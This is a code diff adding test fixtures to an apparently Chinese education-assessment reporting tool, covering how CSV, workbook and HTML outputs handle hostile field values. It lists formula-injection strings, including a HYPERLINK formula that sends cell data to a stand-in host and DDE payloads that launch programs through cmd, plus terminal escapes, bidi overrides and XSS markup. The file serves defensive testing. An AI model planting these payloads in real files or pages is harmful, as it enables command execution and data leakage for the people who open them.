@@ -319,3 +319,116 @@ def write_json(path: Path, records: Sequence[Any], *, text: str | None = None) -
     )
     path.write_text(body, encoding="utf-8")
     return path
+
+
+# ------------------------------------------------------------- hostile values for outputs
+
+#: strings an attacker (or a careless paste) puts in any field that reaches a report
+HOSTILE: dict[str, str] = {
+    "formula =": "=1+1",
+    "formula +": "+1+1",
+    "formula -": "-1+1",
+    "formula @": "@SUM(A1:A9)",
+    "tab then formula": "\t=1+1",
+    "CR then formula": "\r=1+1",
+    "LF then formula": "\n=1+1",
+    "tab formula": "\t=1+1\t",
+    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
+    "DDE": "=cmd|' /C calc'!A0",
+    "DDE with +": "+cmd|' /C notepad'!A0",
+    "NUL": "空\x00字符",
+    "ESC colour": "\x1b[31m红色\x1b[0m",
+    "ESC clear screen": "\x1b[2J\x1b[H已清屏",
+    "OSC title": "\x1b]0;pwned\x07标题",
+    "C1 CSI": "\x9b31m八位",
+    "BEL and BS": "响铃\x07退格\x08",
+    "DEL and C1": "删除\x7f\x85\x9f",
+    "bidi override": "校名\u202e逆序\u202c",
+    "bidi isolate": "\u2066隔离\u2069\u200f",
+    "script": "<script>alert(1)</script>",
+    "attribute": '"><img src=x onerror=alert(1)>',
+    "entity": "&lt;b&gt;&amp;",
+    "quotes": "单'双\"反`",
+    "CDATA": "]]><![CDATA[x",
+    "very long": "长" * 33_000,  # more than a cell of Excel holds
+    "lone surrogate": "坏\ud800字",
+}
+
+#: what an XML file (a workbook) can hold: no C0 control but tab, LF and CR, no surrogate
+_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
+
+
+def in_xml(text: str) -> bool:
+    """Whether a workbook's XML can hold ``text``."""
+    return not _NOT_IN_XML.search(text)
+
+
+def hostile_rows(strings: dict[str, str]) -> tuple[list[dict[str, Any]], int]:
+    """Three rows per string: a valid one carrying it in every text field (id, schools,
+    city, county, note), one with it as the community type and one with it as a count
+    (both rejected); and the number of hostile values placed."""
+    out: list[dict[str, Any]] = []
+    for n, text in enumerate(strings.values()):
+        out.append(
+            row(
+                f"G{n}{text}",
+                core=text,
+                members=text,
+                city=text,
+                county=text,
+                note=text,
+            )
+        )
+        out.append(row(f"T{n}", type=text))
+        out.append(row(f"C{n}", sync_lessons=text))
+    return out, 8 * len(strings)
+
+
+#: the columns of a hostile CSV or workbook: the usual ones and the text columns
+HOSTILE_KEYS = (*KEYS, "members", "city", "county", "note")
+
+
+def hostile_pack(folder: Path) -> Path:
+    """A copy of the demo pack (id ``hostile``) whose title, labels, sections and a quote
+    hold formulas, markup and control characters; its pack file."""
+    import shutil
+
+    demo = Path(__file__).parent / "demo"
+    folder.mkdir(parents=True, exist_ok=True)
+    for name in ("pack.yaml", "document.txt"):
+        shutil.copy(demo / name, folder / name)
+    pack = (folder / "pack.yaml").read_text(encoding="utf-8")
+    quote = "=cmd|' /C calc'!A0 同步课堂不少于 2 门学科"
+
+    def q(text: str) -> str:  # a YAML double-quoted string (JSON's escapes are YAML's)
+        return json.dumps(text)
+
+    for old, new in (
+        ("id: demo\n", "id: hostile\n"),
+        (
+            "title: 示例县城乡教育共同体考核办法",
+            f"title: {q(HOSTILE['hyperlink'] + chr(27) + '[2J')}",
+        ),
+        (
+            "label: {zh: 同步课堂, en: synchronous lessons}",
+            f"label: {{zh: {q('=1+1' + HOSTILE['bidi override'])}, en: {q(HOSTILE['script'])}}}",
+        ),
+        (
+            "source: {section: 一 1, quote: 1.同步课堂（40 分）}",
+            f"source: {{section: {q('@SUM(A1)' + chr(0x9B))}, quote: 1.同步课堂（40 分）}}",
+        ),
+        (
+            "source: {section: 一 1, quote: 每年开展同步课堂不少于 2 门学科}",
+            f"source: {{section: 一 1, quote: {q(quote)}}}",
+        ),
+        (
+            "label: {zh: 示例考核细则, en: demo rubric}",
+            f"label: {{zh: {q(HOSTILE['ESC colour'])}, en: {q(HOSTILE['attribute'])}}}",
+        ),
+    ):
+        assert old in pack, old
+        pack = pack.replace(old, new, 1)
+    (folder / "pack.yaml").write_text(pack, encoding="utf-8")
+    with (folder / "document.txt").open("a", encoding="utf-8") as text:
+        text.write(f"\n{quote}\n")
+    return folder / "pack.yaml"
